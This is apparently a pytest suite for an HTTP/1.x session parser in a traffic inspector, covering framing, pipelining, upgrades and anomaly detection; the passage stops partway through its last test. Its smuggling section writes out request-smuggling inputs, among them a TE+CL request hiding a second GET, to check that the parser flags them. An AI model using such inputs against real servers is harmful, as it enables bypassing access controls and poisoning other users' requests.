"""Tests for inspector.capture.http1: the HTTP/1.x session parser of the offline path.

Every conversation is a list of *steps*; a step holds at most one chunk of bytes per direction,
and the chunks of one step may interleave in any order (the two peers talk at once), while
steps follow each other (a response cannot precede the request it answers). Each conversation
is fed whole, byte by byte (the directions alternating), and in seeded random splits with random
interleavings, and must give the same events every time (h11's `tr` habit). Bytes come from h11
(a client and a server talking in memory) and h2 where those libraries produce them, literally
written otherwise.
"""

from __future__ import annotations

import gzip
import io
import itertools
import json
import os
import random
import struct
from collections import Counter
from pathlib import Path

import dpkt
import h2.config
import h2.connection
import h11
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from inspector.capture.http1 import ANOMALIES, Http1Session
from inspector.http import (
    TO_CLIENT,
    TO_SERVER,
    BodyGap,
    BodyReceived,
    HeadReceived,
    MessageEnded,
    SessionAnomaly,
    SessionEvent,
)
from inspector.limits import Limits

S, C = TO_SERVER, TO_CLIENT
Step = list[tuple[int, bytes | int]]  # bytes, or the length of a gap

# --- feeding ---------------------------------------------------------------------------------


def _pieces(data: bytes | int, mode: str | int, rng: random.Random) -> list[bytes | int]:
    if isinstance(data, int):  # a gap: indivisible
        return [data]
    if mode == "whole" or not data:
        return [data] if data else []
    if mode == "bytes":
        return [data[i:i + 1] for i in range(len(data))]
    cuts = sorted(rng.sample(range(1, len(data)), min(len(data) - 1, rng.randint(0, 6))))
    bounds = [0, *cuts, len(data)]
    return [data[a:b] for a, b in itertools.pairwise(bounds)]


def feed_order(steps: list[Step], mode: str | int) -> list[tuple[int, bytes]]:
    """The (direction, bytes) calls for `steps` in one feeding mode."""
    rng = random.Random(mode if isinstance(mode, int) else 0)
    calls: list[tuple[int, bytes]] = []
    for step in steps:
        assert len({direction for direction, _ in step}) == len(step), "one chunk per direction a step"
        queues = [[(direction, piece) for piece in _pieces(data, mode, rng)] for direction, data in step]
        queues = [q for q in queues if q]
        while queues:
            if mode == "whole":
                index = 0
            elif mode == "bytes":
                index = len(calls) % len(queues)
            else:
                index = rng.randrange(len(queues))
            calls.append(queues[index].pop(0))
            queues = [q for q in queues if q]
    return calls


def run(steps: list[Step], mode: str | int = "whole", limits: Limits | None = None,
        eof: bool = True) -> tuple[Http1Session, list[SessionEvent]]:
    session = Http1Session(limits) if limits else Http1Session()
    events: list[SessionEvent] = []
    for ts, (direction, data) in enumerate(feed_order(steps, mode)):
        if isinstance(data, int):
            events += session.receive_gap(direction, data, float(ts))
        else:
            events += session.receive_data(direction, data, float(ts))
    if eof:
        events += session.receive_eof(S, 1e6)
        events += session.receive_eof(C, 1e6)
    return session, events


def normalize(events: list[SessionEvent]) -> dict[int, list[tuple]]:
    """Events per direction as plain tuples, body pieces joined, times dropped."""
    out: dict[int, list[tuple]] = {S: [], C: []}
    for event in events:
        assert not (isinstance(event, SessionAnomaly) and event.event == "internal_error"), event
        if isinstance(event, HeadReceived):
            m = event.message
            if event.direction == S:
                item: tuple = ("req", event.stream_id, m.method, m.path, event.end_stream)
            else:
                item = ("resp", event.stream_id, m.status, event.end_stream)
        elif isinstance(event, BodyReceived):
            assert event.data, "no empty body pieces"
            line = out[event.direction]
            if line and line[-1][0] == "body" and line[-1][1] == event.stream_id:
                line[-1] = ("body", event.stream_id, line[-1][2] + event.data)
                continue
            item = ("body", event.stream_id, event.data)
        elif isinstance(event, MessageEnded):
            item = ("end", event.stream_id, event.complete, tuple(event.trailers))
        elif isinstance(event, BodyGap):
            item = ("hole", event.stream_id, event.length)
        else:
            assert isinstance(event, SessionAnomaly)
            assert event.layer == "http1" and event.event in ANOMALIES, event
            item = ("anomaly", event.event, event.stream_id)
        out[event.direction].append(item)
    return out


MODES: list[str | int] = ["whole", "bytes", *range(12)]


def check(steps: list[Step], expected: dict[int, list[tuple]], limits: Limits | None = None,
          modes: list[str | int] = MODES, eof: bool = True) -> Http1Session:
    """Feed `steps` every way; each must give `expected`. Returns the session fed whole."""
    for mode in modes:
        _, events = run(steps, mode, limits, eof)
        assert normalize(events) == expected, f"feeding mode {mode!r}"
    session, _ = run(steps, "whole", limits, eof)
    return session


def whole_events(steps: list[Step], limits: Limits | None = None) -> list[SessionEvent]:
    return run(steps, "whole", limits)[1]


# --- real peers -------------------------------------------------------------------------------


def h11_exchange(method: str = "GET", target: str = "/", headers: list[tuple[str, str]] | None = None,
                 body: bytes = b"", status: int = 200, response_headers: list[tuple[str, str]] | None = None,
                 response_body: list[bytes] | bytes = b"", trailers: list[tuple[str, str]] | None = None,
                 request_chunks: list[bytes] | None = None,
                 request_trailers: list[tuple[str, str]] | None = None) -> tuple[bytes, bytes]:
    """One request and its response as an h11 client and server write them."""
    client, server = h11.Connection(h11.CLIENT), h11.Connection(h11.SERVER)
    request_headers = [("Host", "example.test"), *(headers or [])]
    if body:
        request_headers.append(("Content-Length", str(len(body))))
    wire = client.send(h11.Request(method=method, target=target, headers=request_headers))
    for piece in request_chunks or ([body] if body else []):
        wire += client.send(h11.Data(data=piece))
    wire += client.send(h11.EndOfMessage(headers=request_trailers or []))
    server.receive_data(wire)
    while type(server.next_event()) is not h11.EndOfMessage:
        pass
    pieces = response_body if isinstance(response_body, list) else ([response_body] if response_body else [])
    answer = server.send(h11.Response(status_code=status, headers=response_headers or []))
    if server.our_state is h11.SWITCHED_PROTOCOL:  # 2xx to CONNECT: no HTTP body follows
        return wire, answer
    for piece in pieces:
        answer += server.send(h11.Data(data=piece))
    answer += server.send(h11.EndOfMessage(headers=trailers or []))
    return wire, answer


def h2c_upgrade_bytes() -> tuple[bytes, bytes, bytes, bytes]:
    """(upgrade request, 101 head, client preface + SETTINGS, server SETTINGS) from h11 and h2."""
    h2_client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    settings_header = h2_client.initiate_upgrade_connection()
    client_preface = h2_client.data_to_send()
    h2_server = h2.connection.H2Connection(h2.config.H2Configuration(client_side=False))
    h2_server.initiate_upgrade_connection(settings_header)
    server_frames = h2_server.data_to_send()
    client, server = h11.Connection(h11.CLIENT), h11.Connection(h11.SERVER)
    request = client.send(h11.Request(method="GET", target="/models", headers=[
        ("Host", "example.test"), ("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"),
        ("HTTP2-Settings", settings_header.decode())]))
    request += client.send(h11.EndOfMessage())
    server.receive_data(request)
    while type(server.next_event()) is not h11.EndOfMessage:
        pass
    switching = server.send(h11.InformationalResponse(status_code=101, headers=[
        ("Connection", "Upgrade"), ("Upgrade", "h2c")]))
    return request, switching, client_preface, server_frames


# --- messages and framing ----------------------------------------------------------------------


def test_get_and_post_with_content_length():
    """Two exchanges on one connection: heads, bodies and ends, with stream ids 0 and 1."""
    get, ok = h11_exchange("GET", "/v2/models", response_headers=[("Content-Length", "5")],
                           response_body=b"ready")
    post, created = h11_exchange("POST", "/v2/models/m/infer", headers=[("Content-Type", "application/json")],
                                 body=b'{"inputs": []}', status=201,
                                 response_headers=[("Content-Length", "2")], response_body=b"{}")
    check([[(S, get)], [(C, ok)], [(S, post)], [(C, created)]], {
        S: [("req", 0, "GET", "/v2/models", True), ("end", 0, True, ()),
            ("req", 1, "POST", "/v2/models/m/infer", False), ("body", 1, b'{"inputs": []}'),
            ("end", 1, True, ())],
        C: [("resp", 0, 200, False), ("body", 0, b"ready"), ("end", 0, True, ()),
            ("resp", 1, 201, False), ("body", 1, b"{}"), ("end", 1, True, ())],
    })


def test_head_fields():
    """Request and response heads carry what the exchange builder and the rules read."""
    request = (b"POST /infer?x=1 HTTP/1.0\r\nHost: Triton.Local:8000\r\nX-Tag: caf\xe9\r\n"
               b"Content-Length: 0\r\n\r\n")
    response = b"HTTP/1.0 404 Not  Found \r\nServer: t\r\nContent-Length: 0\r\n\r\n"
    events = whole_events([[(S, request)], [(C, response)]])
    heads = [e for e in events if isinstance(e, HeadReceived)]
    req, resp = heads[0].message, heads[1].message
    assert (req.kind, req.version, req.method, req.path, req.scheme, req.authority) == (
        "request", "HTTP/1.0", "POST", "/infer?x=1", "http", "Triton.Local:8000")
    assert req.headers == [("host", "Triton.Local:8000"), ("x-tag", "caf\xe9"), ("content-length", "0")]
    assert req.ts_start == 0.0 and heads[0].ts == 0.0
    assert (resp.kind, resp.version, resp.status, resp.reason) == ("response", "HTTP/1.0", 404,
                                                                    "Not  Found")
    assert resp.headers == [("server", "t"), ("content-length", "0")]
    assert heads[1].stream_id == 0 and heads[1].end_stream


def test_head_start_time_is_its_first_byte():
    """`ts_start` is the time of the call that brought the head's first byte; the event's, the last."""
    session = Http1Session()
    assert session.receive_data(S, b"GET / HTT", 1.0) == []
    events = session.receive_data(S, b"P/1.1\r\nHost: a\r\n\r\n", 2.0)
    head = events[0]
    assert isinstance(head, HeadReceived)
    assert (head.message.ts_start, head.ts) == (1.0, 2.0)


def test_absolute_form_and_connect_authority():
    """Proxy requests: authority and scheme from the absolute-form target; CONNECT: the target."""
    events = whole_events([[(S, b"GET HTTP://Bro.org:8080/x?y HTTP/1.1\r\nHost: other\r\n\r\n")]])
    message = events[0].message
    assert (message.scheme, message.authority, message.path) == ("http", "Bro.org:8080",
                                                                 "HTTP://Bro.org:8080/x?y")
    events = whole_events([[(S, b"CONNECT api.example:443 HTTP/1.1\r\nHost: api.example:443\r\n\r\n")]])
    message = events[0].message
    assert (message.method, message.scheme, message.authority) == ("CONNECT", "", "api.example:443")


def test_chunked_with_extensions_and_trailers():
    """De-chunked bodies, chunk extensions ignored, trailers on MessageEnded (both directions)."""
    upload, answer = h11_exchange("POST", "/upload", headers=[("Transfer-Encoding", "chunked")],
                                  request_chunks=[b"hello ", b"world"],
                                  request_trailers=[("X-Checksum", "abc")],
                                  response_headers=[("Transfer-Encoding", "chunked")],
                                  response_body=[b"a" * 20, b"b"], trailers=[("Grpc-Status", "0")])
    check([[(S, upload)], [(C, answer)]], {
        S: [("req", 0, "POST", "/upload", False), ("body", 0, b"hello world"),
            ("end", 0, True, (("x-checksum", "abc"),))],
        C: [("resp", 0, 200, False), ("body", 0, b"a" * 20 + b"b"),
            ("end", 0, True, (("grpc-status", "0"),))],
    })
    literal = (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n"
               b"4;name=value;other\r\nWiki\r\n5 ; spaced\r\npedia\r\n0;last\r\n\r\n")
    check([[(S, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")], [(C, literal)]], {
        S: [("req", 0, "GET", "/", True), ("end", 0, True, ())],
        C: [("resp", 0, 200, False), ("body", 0, b"Wikipedia"), ("end", 0, True, ())],
    })


def test_pipelining_three_requests_then_three_responses():
    """Responses pair with requests in order, whatever the interleaving."""
    pairs = [h11_exchange("GET", f"/item/{i}", response_headers=[("Content-Length", "2")],
                          response_body=f"r{i}".encode()) for i in range(3)]
    requests = [request for request, _ in pairs]
    responses = [response for _, response in pairs]
    expected = {
        S: [item for i in range(3) for item in (("req", i, "GET", f"/item/{i}", True), ("end", i, True, ()))],
        C: [item for i in range(3)
            for item in (("resp", i, 200, False), ("body", i, f"r{i}".encode()), ("end", i, True, ()))],
    }
    check([[(S, b"".join(requests))], [(C, b"".join(responses))]], expected)
    check([[(S, requests[0])], [(S, requests[1]), (C, responses[0])], [(S, requests[2]), (C, responses[1])],
           [(C, responses[2])]], expected)


def test_head_response_has_no_body():
    """A response to HEAD carries Content-Length but no body; the next response follows at once."""
    head, head_answer = h11_exchange("HEAD", "/model.bin", response_headers=[("Content-Length", "1000")])
    get, get_answer = h11_exchange("GET", "/", response_headers=[("Content-Length", "1")],
                                   response_body=b"x")
    assert head_answer.endswith(b"\r\n\r\n")
    check([[(S, head + get)], [(C, head_answer + get_answer)]], {
        S: [("req", 0, "HEAD", "/model.bin", True), ("end", 0, True, ()), ("req", 1, "GET", "/", True),
            ("end", 1, True, ())],
        C: [("resp", 0, 200, True), ("end", 0, True, ()), ("resp", 1, 200, False), ("body", 1, b"x"),
            ("end", 1, True, ())],
    })


@pytest.mark.parametrize("status", [204, 304])
def test_204_and_304_have_no_body(status):
    """204 and 304 end at their head even with a Content-Length (RFC 9112 §6.3 rule 1)."""
    request, answer = h11_exchange("GET", "/", response_headers=[("ETag", '"1"')], status=status)
    answer = answer.replace(b"\r\n\r\n", b"\r\nContent-Length: 7\r\n\r\n")
    second = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
    check([[(S, request + b"GET /b HTTP/1.1\r\nHost: a\r\n\r\n")], [(C, answer + second)]], {
        S: [("req", 0, "GET", "/", True), ("end", 0, True, ()), ("req", 1, "GET", "/b", True),
            ("end", 1, True, ())],
        C: [("resp", 0, status, True), ("end", 0, True, ()), ("resp", 1, 200, True), ("end", 1, True, ())],
    })


def test_expect_100_continue():
    """The 100 is an interim head of stream 0; the body comes after it; the final response pairs."""
    client, server = h11.Connection(h11.CLIENT), h11.Connection(h11.SERVER)
    head = client.send(h11.Request(method="PUT", target="/bucket/key", headers=[
        ("Host", "s3.test"), ("Expect", "100-continue"), ("Content-Length", "10")]))
    server.receive_data(head)
    server.next_event()
    continue_ = server.send(h11.InformationalResponse(status_code=100, headers=[]))
    body = client.send(h11.Data(data=b"0123456789")) + client.send(h11.EndOfMessage())
    server.receive_data(body)
    server.next_event()
    server.next_event()
    final = server.send(h11.Response(status_code=200, headers=[("Content-Length", "0")]))
    final += server.send(h11.EndOfMessage())
    expected = {
        S: [("req", 0, "PUT", "/bucket/key", False), ("body", 0, b"0123456789"), ("end", 0, True, ())],
        C: [("resp", 0, 100, True), ("resp", 0, 200, True), ("end", 0, True, ())],
    }
    check([[(S, head)], [(C, continue_)], [(S, body)], [(C, final)]], expected)
    check([[(S, head)], [(C, continue_)], [(S, body), (C, final)]], expected)  # answered early


def test_103_early_hints_then_final():
    """1xx heads do not consume the pending request; two of them, then the final response."""
    client, server = h11.Connection(h11.CLIENT), h11.Connection(h11.SERVER)
    request = client.send(h11.Request(method="GET", target="/", headers=[("Host", "a")]))
    request += client.send(h11.EndOfMessage())
    server.receive_data(request)
    server.next_event()
    server.next_event()
    hints = server.send(h11.InformationalResponse(status_code=103,
                                                  headers=[("Link", "</s.css>; rel=preload")]))
    hints += server.send(h11.InformationalResponse(status_code=103, headers=[("Link", "</t.js>")]))
    final = server.send(h11.Response(status_code=200, headers=[("Content-Length", "2")]))
    final += server.send(h11.Data(data=b"ok")) + server.send(h11.EndOfMessage())
    check([[(S, request)], [(C, hints)], [(C, final)]], {
        S: [("req", 0, "GET", "/", True), ("end", 0, True, ())],
        C: [("resp", 0, 103, True), ("resp", 0, 103, True), ("resp", 0, 200, False), ("body", 0, b"ok"),
            ("end", 0, True, ())],
    })


def test_close_delimited_response_ends_complete_at_eof():
    """No Content-Length and no chunking: the body runs to the end of the stream."""
    request = b"GET /old HTTP/1.0\r\nHost: a\r\n\r\n"
    response = b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nline one\nline two\n"
    check([[(S, request)], [(C, response)]], {
        S: [("req", 0, "GET", "/old", True), ("end", 0, True, ())],
        C: [("resp", 0, 200, False), ("body", 0, b"line one\nline two\n"), ("end", 0, True, ())],
    })


def test_request_without_length_has_no_body():
    """A request with neither header has no body: what follows is the next request."""
    check([[(S, b"POST /a HTTP/1.1\r\nHost: a\r\n\r\nGET /b HTTP/1.1\r\nHost: a\r\n\r\n")]], {
        S: [("req", 0, "POST", "/a", True), ("end", 0, True, ()), ("req", 1, "GET", "/b", True),
            ("end", 1, True, ())],
        C: [],
    })


# --- smuggling and framing anomalies ----------------------------------------------------------


def test_te_and_cl_chunked_wins_and_the_smuggled_request_shows():
    """TE+CL: anomaly, chunked framing; the request hidden behind the chunked end is parsed."""
    request = (b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n"
               b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n")
    check([[(S, request)]], {
        S: [("anomaly", "te_and_cl", 0), ("req", 0, "POST", "/", False), ("end", 0, True, ()),
            ("req", 1, "GET", "/smuggled", True), ("end", 1, True, ())],
        C: [],
    })


def test_conflicting_content_length_gives_up():
    """Two different Content-Length values: anomaly, message ends incomplete, direction given up."""
    request = (b"POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nContent-Length: 5\r\n\r\n"
               b"abcdeGET /after HTTP/1.1\r\n\r\n")
    check([[(S, request)]], {
        S: [("anomaly", "conflicting_content_length", 0), ("req", 0, "POST", "/x", False),
            ("end", 0, False, ())],
        C: [],
    })
    same = b"POST /x HTTP/1.1\r\nContent-Length: 3, 3\r\nContent-Length: 3\r\n\r\nabc"
    check([[(S, same)]], {S: [("req", 0, "POST", "/x", False), ("body", 0, b"abc"), ("end", 0, True, ())],
                          C: []})


@pytest.mark.parametrize(("value", "event"), [
    (b"-1", "invalid_content_length"), (b"12a", "invalid_content_length"), (b"", "invalid_content_length"),
    (b"1" * 19, "content_length_overflow"), (b"+5", "invalid_content_length"),
])
def test_invalid_content_length_gives_up(value, event):
    """Content-Length must be digits, at most 18 of them; otherwise the direction is given up."""
    request = b"POST / HTTP/1.1\r\nContent-Length: " + value + b"\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n"
    check([[(S, request)]], {
        S: [("anomaly", event, 0), ("req", 0, "POST", "/", False), ("end", 0, False, ())], C: []})


def test_request_transfer_encoding_not_chunked_gives_up():
    """A request whose last transfer coding is not chunked has no knowable length (RFC 9112 §6.3)."""
    check([[(S, b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked, gzip\r\n\r\nxxxx")]], {
        S: [("anomaly", "invalid_transfer_encoding", 0), ("req", 0, "POST", "/", False),
            ("end", 0, False, ())], C: []})


def test_response_transfer_encoding_not_chunked_reads_to_close():
    """A response whose last transfer coding is not chunked is close-delimited."""
    response = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip\r\n\r\nzz"
    check([[(S, b"GET / HTTP/1.1\r\n\r\n")], [(C, response)]], {
        S: [("req", 0, "GET", "/", True), ("end", 0, True, ())],
        C: [("anomaly", "invalid_transfer_encoding", 0), ("resp", 0, 200, False), ("body", 0, b"zz"),
            ("end", 0, True, ())]})


@pytest.mark.parametrize("size", [b"10000000000000000", b"ffffffffffffffff", b"8000000000000000",
                                  b"000000000000000000001"])
def test_chunk_size_overflow_gives_up(size):
    """Chunk sizes of 2**63 and above, or more than 16 hex digits: anomaly and give up."""
    request = b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n" + size + b"\r\nabc"
    check([[(S, request)]], {
        S: [("req", 0, "POST", "/", False), ("anomaly", "chunk_size_overflow", 0), ("end", 0, False, ())],
        C: []})


def test_chunk_framing_errors_give_up():
    """A chunk-size that is not hex, a missing CRLF after data, a chunk line over the cap."""
    head = b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    expected_body = [("req", 0, "POST", "/", False)]
    check([[(S, head + b"zz\r\n")]], {
        S: [*expected_body, ("anomaly", "invalid_chunk_size", 0), ("end", 0, False, ())], C: []})
    check([[(S, head + b"2\r\nabXY")]], {
        S: [*expected_body, ("body", 0, b"ab"), ("anomaly", "invalid_chunk_terminator", 0),
            ("end", 0, False, ())], C: []})
    limits = Limits(max_chunk_line=16)
    check([[(S, head + b"1;" + b"e" * 40 + b"\r\nx\r\n0\r\n\r\n")]], {
        S: [*expected_body, ("anomaly", "chunk_line_too_long", 0), ("end", 0, False, ())], C: []},
        limits=limits)
    check([[(S, head + b"1;" + b"e" * 10 + b"\r\nx\n0\n\n")]], {
        S: [*expected_body, ("body", 0, b"x"), ("end", 0, True, ())], C: []}, limits=limits)


# --- lenient parsing of messy heads -------------------------------------------------------------


def test_obsolete_line_folding_is_unfolded():
    """A continuation line joins the previous value with one space; anomaly."""
    request = b"GET / HTTP/1.1\r\nHost: a\r\nX-Long: first\r\n   second\r\n\tthird\r\n\r\n"
    events = whole_events([[(S, request)]])
    assert events[1].message.headers == [("host", "a"), ("x-long", "first second third")]
    check([[(S, request)]], {S: [("anomaly", "obsolete_line_folding", 0), ("req", 0, "GET", "/", True),
                                 ("end", 0, True, ())], C: []})


def test_bare_lf_line_endings_and_leading_crlfs():
    """LF-only heads and chunk lines are accepted; CRLFs between messages are skipped."""
    request = b"\r\n\r\nGET /a HTTP/1.1\nHost: a\n\n\r\nGET /b HTTP/1.1\nHost: a\r\n\n"
    response = b"HTTP/1.1 200 OK\nTransfer-Encoding: chunked\n\n3\nabc\n0\n\nHTTP/1.1 204 No\n\n"
    events = whole_events([[(S, request)], [(C, response)]])
    assert events[0].message.headers == [("host", "a")]
    check([[(S, request)], [(C, response)]], {
        S: [("req", 0, "GET", "/a", True), ("end", 0, True, ()), ("req", 1, "GET", "/b", True),
            ("end", 1, True, ())],
        C: [("resp", 0, 200, False), ("body", 0, b"abc"), ("end", 0, True, ()), ("resp", 1, 204, True),
            ("end", 1, True, ())],
    })


def test_malformed_field_lines_are_reported_and_skipped():
    """No colon, space before colon, bad name characters, control characters: anomalies, go on."""
    request = (b"GET / HTTP/1.1\r\nHost: a\r\nNoColonHere\r\nContent-Length : 0\r\nBad Name: v\r\n"
               b"X-Ctl: a\x01b\r\n\r\n")
    events = whole_events([[(S, request)]])
    head = next(e for e in events if isinstance(e, HeadReceived))
    assert head.message.headers == [("host", "a"), ("content-length", "0"), ("x-ctl", "a\x01b")]
    check([[(S, request)]], {S: [("anomaly", "header_control_characters", 0),
                                 ("anomaly", "header_without_colon", 0),
                                 ("anomaly", "header_whitespace_before_colon", 0),
                                 ("anomaly", "invalid_header_name", 0),
                                 ("req", 0, "GET", "/", True), ("end", 0, True, ())], C: []})


def test_multiple_host_headers():
    """Two Host fields: anomaly; the first is the authority."""
    events = whole_events([[(S, b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n")]])
    assert [e.event for e in events if isinstance(e, SessionAnomaly)] == ["multiple_host_headers"]
    assert events[1].message.authority == "a"


def test_header_too_large_and_too_many_headers_give_up():
    """Caps on head size and field count: anomaly and the direction is given up."""
    limits = Limits(max_header_bytes=200, max_headers=5)
    big = b"GET / HTTP/1.1\r\nX-Big: " + b"x" * 300 + b"\r\n\r\nGET /next HTTP/1.1\r\n\r\n"
    check([[(S, big)]], {S: [("anomaly", "header_too_large", None)], C: []}, limits=limits)
    never_ends = b"GET / HTTP/1.1\r\nX-Big: " + b"x" * 300
    check([[(S, never_ends)]], {S: [("anomaly", "header_too_large", None)], C: []}, limits=limits)
    many = b"GET / HTTP/1.1\r\n" + b"".join(b"H%d: v\r\n" % i for i in range(6)) + b"\r\n"
    check([[(S, many)]], {S: [("anomaly", "too_many_headers", 0)], C: []}, limits=limits)
    ok = b"GET / HTTP/1.1\r\n" + b"".join(b"H%d: v\r\n" % i for i in range(5)) + b"\r\n"
    check([[(S, ok)]], {S: [("req", 0, "GET", "/", True), ("end", 0, True, ())], C: []}, limits=limits)


def test_junk_gives_the_direction_up_cleanly():
    """Binary junk (a TLS ClientHello) where a request should be: one anomaly, later bytes ignored."""
    client_hello = bytes.fromhex("16030100c4010000c00303") + bytes(range(200))
    _, events = run([[(S, client_hello)], [(S, b"GET / HTTP/1.1\r\n\r\n")]])
    assert normalize(events) == {S: [("anomaly", "invalid_request_line", None)], C: []}
    check([[(S, b"SSH-2.0-OpenSSH_9.6\r\nmore")]], {S: [("anomaly", "invalid_request_line", None)], C: []})
    check([[(S, b"GET / HTTP/1.1\r\n\r\n")], [(C, b"\x00\x01binary\r\n\r\n")]], {
        S: [("req", 0, "GET", "/", True), ("end", 0, True, ())],
        C: [("anomaly", "invalid_status_line", None)]})
    check([[(S, b"GET / HTTP/1.1\r\n\r\n")], [(C, b"HTTP/1.1 OK\r\n\r\n")]], {
        S: [("req", 0, "GET", "/", True), ("end", 0, True, ())],
        C: [("anomaly", "invalid_status_line", None)]})


def test_http09_and_other_versions():
    """HTTP/0.9 and HTTP/3 request lines are refused; HTTP/1.2 and a garbled HTTP/1. parse as 1.1."""
    check([[(S, b"GET /index.html\r\n")]], {S: [("anomaly", "http09_request", None)], C: []})
    check([[(S, b"GET / HTTP/3.0\r\n\r\n")]], {S: [("anomaly", "unsupported_http_version", None)], C: []})
    check([[(S, b"GET / HTTP/1.2\r\n\r\nGET /b HTTP/1.\r\n\r\n")]], {
        S: [("anomaly", "unknown_http_version", 0), ("req", 0, "GET", "/", True), ("end", 0, True, ()),
            ("anomaly", "invalid_http_version", 1), ("req", 1, "GET", "/b", True), ("end", 1, True, ())],
        C: []})
    events = whole_events([[(S, b"GET / HTTP/1.2\r\n\r\n")]])
    assert events[1].message.version == "HTTP/1.1"


# --- pairing ------------------------------------------------------------------------------------


def test_response_without_request():
    """Capture started mid-connection: the response is still emitted, on the next stream id."""
    check([[(C, b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx")], [(S, b"GET /next HTTP/1.1\r\n\r\n")]], {
        S: [("req", 1, "GET", "/next", True), ("end", 1, True, ())],
        C: [("anomaly", "response_without_request", 0), ("resp", 0, 200, False), ("body", 0, b"x"),
            ("end", 0, True, ())],
    })
    # An orphan 100 and its final response share one (unseen) request.
    check([[(C, b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")]], {
        S: [], C: [("anomaly", "response_without_request", 0), ("resp", 0, 100, True), ("resp", 0, 200, True),
                   ("end", 0, True, ())]})


def test_response_waits_for_a_half_received_request():
    """Reassembly may hand over the response before the request's last segment: pairing holds."""
    session = Http1Session()
    events = session.receive_data(S, b"HEAD /big HTTP/1.1\r\nHost:", 1.0)
    events += session.receive_data(C, b"HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\n", 2.0)
    assert events == []
    events += session.receive_data(S, b" a\r\n\r\n", 3.0)
    assert normalize(events) == {S: [("req", 0, "HEAD", "/big", True), ("end", 0, True, ())],
                                 C: [("resp", 0, 200, True), ("end", 0, True, ())]}


def test_too_many_pending_requests_drops_the_oldest():
    """More unanswered requests than the cap: anomaly naming the dropped one; responses pair on."""
    limits = Limits(max_pending_exchanges=2)
    requests = b"".join(b"GET /%d HTTP/1.1\r\n\r\n" % i for i in range(3))
    response = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
    check([[(S, requests)], [(C, response)]], {
        S: [("req", 0, "GET", "/0", True), ("end", 0, True, ()), ("req", 1, "GET", "/1", True),
            ("end", 1, True, ()), ("anomaly", "too_many_pending_requests", 0), ("req", 2, "GET", "/2", True),
            ("end", 2, True, ())],
        C: [("resp", 1, 200, True), ("end", 1, True, ())]}, limits=limits)


# --- protocol switches --------------------------------------------------------------------------


def test_h2c_upgrade_keeps_the_http2_bytes_of_both_directions():
    """101 to Upgrade: h2c: interim head, no end; the bytes after it go to `leftover`."""
    request, switching, client_preface, server_frames = h2c_upgrade_bytes()
    expected = {S: [("req", 0, "GET", "/models", True), ("end", 0, True, ())],
                C: [("resp", 0, 101, True)]}
    orders = [
        [[(S, request)], [(C, switching + server_frames)], [(S, client_preface)]],
        [[(S, request)], [(C, switching)], [(S, client_preface), (C, server_frames)]],
        # the client preface reaches us before the 101 (reassembly order): it waits, then is kept
        [[(S, request + client_preface)], [(C, switching + server_frames)]],
    ]
    for steps in orders:
        session = check(steps, expected, eof=False)
        assert session.upgraded_to == "h2c"
        assert session.leftover == {S: client_preface, C: server_frames}
    session, _ = run(orders[0], eof=False)
    assert session.receive_data(S, b"\x00\x00\x00", 5.0) == []
    assert session.receive_eof(C, 6.0) == []
    assert session.leftover == {S: client_preface + b"\x00\x00\x00", C: server_frames}


def test_h2_prior_knowledge_preface():
    """An HTTP/2 connection preface where a request should be: switch to h2c, nothing lost."""
    h2_client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    h2_client.initiate_connection()
    preface = h2_client.data_to_send()
    session = check([[(S, preface)]], {S: [], C: []}, eof=False)
    assert (session.upgraded_to, session.leftover) == ("h2c", {S: preface, C: b""})


def test_websocket_upgrade():
    """101 websocket: the final response of the exchange; frames that follow go to `leftover`."""
    client, server = h11.Connection(h11.CLIENT), h11.Connection(h11.SERVER)
    request = client.send(h11.Request(method="GET", target="/ws", headers=[
        ("Host", "a"), ("Upgrade", "websocket"), ("Connection", "Upgrade"),
        ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="), ("Sec-WebSocket-Version", "13")]))
    request += client.send(h11.EndOfMessage())
    server.receive_data(request)
    server.next_event()
    server.next_event()
    switching = server.send(h11.InformationalResponse(status_code=101, headers=[
        ("Upgrade", "websocket"), ("Connection", "Upgrade"),
        ("Sec-WebSocket-Accept", "s3pPLMBiTxaQ9kYGzzhZRbK+xOo=")]))
    client_frame, server_frame = b"\x81\x85\x37\xfa\x21\x3d\x7f\x9f\x4d\x51\x58", b"\x81\x05Hello"
    session = check([[(S, request)], [(C, switching + server_frame)], [(S, client_frame)]], {
        S: [("req", 0, "GET", "/ws", True), ("end", 0, True, ())],
        C: [("resp", 0, 101, True), ("end", 0, True, ())]}, eof=False)
    assert session.upgraded_to == "websocket"
    assert session.leftover == {S: client_frame, C: server_frame}


def test_connect_tunnel_and_refused_connect():
    """2xx to CONNECT opens a tunnel; a 407 keeps the connection HTTP/1."""
    request, answer = h11_exchange("CONNECT", "api.example:443")
    client_hello = bytes.fromhex("160301002a")
    session = check([[(S, request + client_hello)], [(C, answer)]], {
        S: [("req", 0, "CONNECT", "api.example:443", True), ("end", 0, True, ())],
        C: [("resp", 0, 200, True), ("end", 0, True, ())]}, eof=False)
    assert (session.upgraded_to, session.leftover) == ("tunnel", {S: client_hello, C: b""})
    refused = b"HTTP/1.1 407 Proxy Authentication Required\r\nContent-Length: 3\r\n\r\nno!"
